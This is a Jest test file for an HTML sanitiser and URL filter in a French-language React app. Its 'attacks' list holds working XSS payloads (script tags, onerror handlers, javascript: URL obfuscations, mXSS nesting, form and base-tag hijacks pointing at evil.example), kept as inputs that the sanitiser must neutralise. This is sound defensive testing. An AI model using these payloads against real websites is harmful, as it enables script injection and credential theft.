import { render, screen, waitFor } from '@testing-library/react';
import { IntlProvider } from 'react-intl';
import { plainText } from '../../../src/domain/plainText';
import { RichText } from '../../../src/ui/richText/RichText';
import { harmIn, hostileTexts } from '../../support/hostileTexts';
import { safeLink, safeMedia } from '../../../src/ui/richText/safeUrl';
import { sanitise } from '../../../src/ui/richText/sanitise';

const base = 'https://programme.example/';
const newTab = '(nouvel onglet)';

/** The safe HTML of a text. */
function safe(html: string): string {
  const holder = document.createElement('div');
  holder.append(sanitise(html, base, newTab));
  return holder.innerHTML;
}

/** Every attribute that is left, as name=value. */
function attributesOf(html: string): string[] {
  const holder = document.createElement('div');
  holder.append(sanitise(html, base, newTab));
  return [...holder.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].map(({ name, value }) => `${name}=${value}`),
  );
}

/** Ways to run a script, reach another host, ask for something, or look like the app. */
const attacks = [
  '<script>window.__xss = 1</script>',
  '<ScRiPt src="https://evil.example/x.js"></sCrIpT>',
  '<img src=x onerror="window.__xss = 1">',
  '<img src="https://evil.example/pixel.gif" onload=alert(1)>',
  '<svg onload="window.__xss = 1"><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe><object data="x"></object><embed src="x">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="blob:https://programme.example/1">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="/\\evil.example/">a</a>',
  '<a href="/\t/evil.example/">a</a>',
  '<a href="relative">a</a>',
  '<a href="#here" onclick="alert(1)" style="color:red" id="root" class="app-shell" name="body">a</a>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">b</button></form>',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body { display: none }</style><p style="position:fixed">p</p>',
  '<p data-index="1" aria-label="x" role="alert" contenteditable tabindex="1" hidden>p</p>',
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="x" autoplay></audio>',
  '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img srcset="https://evil.example/1.png 1x" src="/a.png"><picture><source srcset="https://evil.example/2.png"></picture>',
  '<custom-element onclick=alert(1)>c</custom-element><dialog open>d</dialog>',
];

test.each(attacks)('F7 J3 nothing that runs, reaches out or disguises itself is left of %s', (html) => {
  const left = safe(html);
  expect(left).not.toMatch(/evil|javascript:|vbscript:|data:|blob:|alert\(1\)["';]|__xss/i);
  expect(left).not.toMatch(/<(script|style|svg|math|iframe|object|embed|form|input|button|base|link|meta)/i);
  expect(left).not.toMatch(/<(video|audio|template|dialog)/i);
  for (const attribute of attributesOf(html)) {
    expect(attribute).toMatch(/^(src=https:\/\/programme\.example\/|alt=|loading=lazy$|title=)/);
  }
});

test.each(hostileTexts)(
  'S1 nothing of it gets hold of anything, nor when what is left is read again: %j',
  (html) => {
    const holder = document.createElement('div');
    // The provider and the app share an origin: its way out is among the paths a text could lead to.
    const own = `${location.origin}/`;
    holder.append(sanitise(html, own, newTab));
    expect(harmIn(holder)).toEqual([]);
    for (const element of holder.querySelectorAll('*')) {
      expect(element.localName).toMatch(/^(?:p|a|img|div|span|t\w+|caption|blockquote)$/);
      for (const { name } of element.attributes)
        expect(name).toMatch(/^(?:href|target|rel|src|alt|loading|class|title|width|height)$/);
    }
    const again = new DOMParser().parseFromString(holder.innerHTML, 'text/html').body;
    expect(again.innerHTML).toBe(holder.innerHTML);
  },
);

test('F7 what a text needs stays', () => {
  const html =
    '<h2>Un titre</h2><p>Du <strong>gras</strong>, de l’<em>italique</em><br>et une liste :</p><ul><li>un</li></ul>' +
    '<blockquote cite="x">Cité</blockquote><table><tr><th scope="col">A</th></tr></table>';
  expect(safe(html)).toBe(
    '<h2>Un titre</h2><p>Du <strong>gras</strong>, de l’<em>italique</em><br>et une liste :</p><ul><li>un</li></ul>' +
      '<blockquote>Cité</blockquote><table><tbody><tr><th scope="col">A</th></tr></tbody></table>',
  );
  expect(safe('<h1>Trop haut</h1>')).toBe('Trop haut');
});

test('F7 a text about styles and handlers is no style and no handler', () => {
  expect(safe('<p>Son style="sobre" et onclick="x"</p>')).toBe('<p>Son style="sobre" et onclick="x"</p>');
});

test.each([
  ['<img src="/a.png" onerror="bad()"><p>suite</p>', '<p>suite</p>'],
  ["<p class='a'onclick='bad()'>un</p><p>suite</p>", '<p>un</p><p>suite</p>'],
  ['<p title="un"/onclick=bad()/>un</p><p>suite</p>', '<p title="un">un</p><p>suite</p>'],
  ['<p title="voir once=1" style="color:red">un</p>', '<p title="voir once=1">un</p>'],
  ['<p title="a > b" onclick="bad()">un</p><p>suite</p>', '<p title="a > b">un</p><p>suite</p>'],
])('F7 S1 a handler or a style that goes takes nothing else along: %s', (html, left) => {
  expect(safe(html).replace(/<img[^>]*>/, '')).toBe(left);
});

test('F7 S1 a text that goes on for ever is cleaned all the same', () => {
  const endless = [
    '<a '.repeat(60_000),
    '<a "'.repeat(50_000),
    "<a b='".repeat(40_000),
    '<p>a</p>'.repeat(2_000),
  ];
  for (const html of endless) expect(safe(html)).not.toMatch(/onclick/);
});

test('F7 links open a tab of their own, say so, and tell the other page nothing', () => {
  expect(safe('<a href="https://lire.example/livre">Lire</a>')).toBe(
    '<a href="https://lire.example/livre" target="_blank" rel="noopener noreferrer">Lire<span class="visually-hidden"> (nouvel onglet)</span></a>',
  );
  expect(safe('<a href="/node/7" target="_top" rel="opener">Lire</a>')).toContain(
    '<a href="https://programme.example/node/7" target="_blank" rel="noopener noreferrer">',
  );
  expect(safe('<a href="mailto:nora@programme.example">Nora</a>')).toBe(
    '<a href="mailto:nora@programme.example">Nora</a>',
  );
});

test('F7 pictures come from the provider only, late, and always have an alternative', () => {
  expect(
    safe('<p><img src="/sites/a.svg"><img src="https://programme.example/b.png" alt="Un lac"></p>'),
  ).toBe(
    '<p><img src="https://programme.example/sites/a.svg" loading="lazy" alt="">' +
      '<img src="https://programme.example/b.png" alt="Un lac" loading="lazy"></p>',
  );
  expect(safe('<img src="https://ailleurs.example/a.png">')).toBe('');
});

test.each([
  ...[
    '/logout',
    '/LOGOUT/',
    '/%6cogout',
    '/x/../logout',
    '/logout?returnUrl=/',
    '/logout#x',
    '//logout',
    '/login',
  ],
])('S1 A11 a text links to the app, and never to its way out: %s', (path) => {
  const own = `${location.origin}/`;
  expect(safeLink(location.origin + path, base)).toBeUndefined();
  expect(safeLink(path, own)).toBeUndefined();
  expect(safeLink('/pages/cid', own)).toBe(`${own}pages/cid`);
  const elsewhere = `https://programme.example${path}`;
  expect(safeLink(elsewhere, own)).toBe(new URL(elsewhere).href);
});

test.each([
  ['https://a.example/x', 'https://a.example/x', undefined],
  ['HTTP://a.example', 'http://a.example/', undefined],
  ['/sites/a.mp3', 'https://programme.example/sites/a.mp3', 'https://programme.example/sites/a.mp3'],
  [' /a b ', 'https://programme.example/a%20b', 'https://programme.example/a%20b'],
  ['mailto:a@b.example', 'mailto:a@b.example', undefined],
  ['//a.example/x', undefined, undefined],
  ['/\\a.example', undefined, undefined],
  ['/\n/a.example', undefined, undefined],
  ['javascript:alert(1)', undefined, undefined],
  ['https:a.example', undefined, undefined],
  ['ftp://a.example', undefined, undefined],
  ['http://', undefined, undefined],
  ['#x', undefined, undefined],
  ['', undefined, undefined],
])('F7 the address %j may be linked to as %j and fetched as %j', (address, link, media) => {
  expect(safeLink(address, base)).toBe(link);
  expect(safeMedia(address, base)).toBe(media);
});

test.each([
  ['<p>Un&nbsp;<b>deux</b></p><p>&nbsp;</p> <p>trois</p>', 'Un\u00A0deux\ntrois'],
  ['<ul><li>a</li><li>b</li></ul>', 'a\nb'],
  ['a &lt; b &amp; c &#233; &#xE9; &rien;', 'a < b & c é é &rien;'],
  ['&valueOf; &toString; &xvalueOf;', '&valueOf; &toString; &xvalueOf;'],
  ['&#0;&#1114112;', '&#0;&#1114112;'],
  ['5 < 6 et 7 > 3', '5 < 6 et 7 > 3'],
  ['a<script>bad()</script><style>p{}</style>b<!-- c -->', 'a b'],
  ['coupé <p class="', 'coupé'],
])('F7 the words of %j are %j', (html, words) => {
  expect(plainText(html)).toBe(words);
});

const drawn = (html: string) => (
  <IntlProvider locale="fr" onError={() => undefined}>
    <RichText html={html} baseUrl={base} />
  </IntlProvider>
);

/** Fails as links are judged. */
const failsAtLinks = () => {
  const { setAttribute } = Element.prototype;
  return jest.spyOn(Element.prototype, 'setAttribute').mockImplementation(function (
    this: Element,
    name: string,
    value: string,
  ) {
    if (name === 'target') throw new Error('no more');
    setAttribute.call(this, name, value);
  });
};

test('F7 S1 a text that could not be made safe leaves nothing behind for the next one', () => {
  const failing = failsAtLinks();
  expect(() => sanitise('<a href="/a">Lire</a>', 'https://elsewhere.example/', newTab)).toThrow('no more');
  failing.mockRestore();
  expect(safe('<a href="/a">Lire</a>')).toContain('href="https://programme.example/a"');
});

test('F7 S1 of a text that cannot be made safe the bare words are shown', async () => {
  const failing = failsAtLinks();
  render(drawn('<p>Un <a href="/a">lien</a></p><p>Deux</p>'));
  const words = await screen.findByText(/Un lien\s+Deux/);
  failing.mockRestore();
  expect(words.querySelector('a')).toBeNull();
  expect(words).toHaveClass('pre-line');
});

test('F7 a text is drawn once its purifier is there, and another one in its place at once', async () => {
  const { rerender, container } = render(drawn('<p>Le <em>premier</em></p>'));
  await waitFor(() => expect(screen.getByText('premier')).toBeVisible());
  rerender(drawn('<p>Le second<img src=x onerror="window.__xss = 1"></p>'));
  expect(screen.queryByText('premier')).toBeNull();
  expect(container.innerHTML).toContain('<p>Le second</p>');
  expect(window).not.toHaveProperty('__xss');
});
